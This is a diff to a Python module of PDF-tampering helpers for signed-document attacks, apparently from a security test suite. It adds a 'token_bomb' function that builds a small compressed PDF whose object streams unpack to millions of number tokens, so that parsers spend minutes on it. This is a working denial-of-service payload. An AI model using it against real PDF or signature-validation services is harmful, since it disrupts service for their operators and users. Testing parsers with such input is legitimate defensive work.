@@ -2,6 +2,8 @@
 """Ways to change a signed PDF that more than one attack needs."""
 
 import re
+import struct
+import zlib
 from collections.abc import Callable
 from io import BytesIO
 
@@ -76,6 +78,45 @@ def replace_once(pdf: bytes, old: bytes, new: bytes) -> bytes:
     assert len(old) == len(new)
     assert pdf.count(old) >= 1
     return pdf.replace(old, new, 1)
+
+
+def token_bomb(*, streams: int = 3, numbers: int = 2_000_000) -> bytes:
+    """Make a small PDF that unpacks to little, and takes minutes to parse.
+
+    Each object stream holds one form field with a long array of ones.
+    """
+    first_field, first_stream = 10, 10 + streams
+    fields = " ".join(f"{first_field + n} 0 R" for n in range(streams))
+    objects = {
+        1: f"<</Type/Catalog/Pages 2 0 R/AcroForm<</SigFlags 3/Fields[{fields}]>>>>",
+        2: "<</Type/Pages/Count 0/Kids[]>>",
+    }
+    body = bytearray(b"%PDF-1.7\n")
+    where = {}
+    for number, text in objects.items():
+        where[number] = (1, len(body), 0)
+        body += f"{number} 0 obj\n{text}\nendobj\n".encode()
+    for n in range(streams):
+        head = f"{first_field + n} 0 ".encode()
+        packed = zlib.compress(head + b"<</T(a)/X[" + b"1 " * numbers + b"]>>", 9)
+        where[first_field + n] = (2, first_stream + n, 0)
+        where[first_stream + n] = (1, len(body), 0)
+        about = f"/N 1/First {len(head)}/Length {len(packed)}/Filter/FlateDecode"
+        body += f"{first_stream + n} 0 obj\n<</Type/ObjStm{about}>>stream\n".encode()
+        body += packed + b"\nendstream\nendobj\n"
+    return bytes(body + _cross_references(where, first_stream + streams, len(body)))
+
+
+def _cross_references(
+    where: dict[int, tuple[int, int, int]], number: int, start: int
+) -> bytes:
+    where[number] = (1, start, 0)
+    rows = [where.get(n, (0, 0, 65535)) for n in range(number + 1)]
+    table = b"".join(struct.pack(">BIH", *row) for row in rows)
+    about = f"/Size {number + 1}/W[1 4 2]/Root 1 0 R/Length {len(table)}"
+    head = f"{number} 0 obj\n<</Type/XRef{about}>>stream\n".encode()
+    tail = f"\nendstream\nendobj\nstartxref\n{start}\n%%EOF\n".encode()
+    return head + table + tail
 
 
 NAME = pdf_name
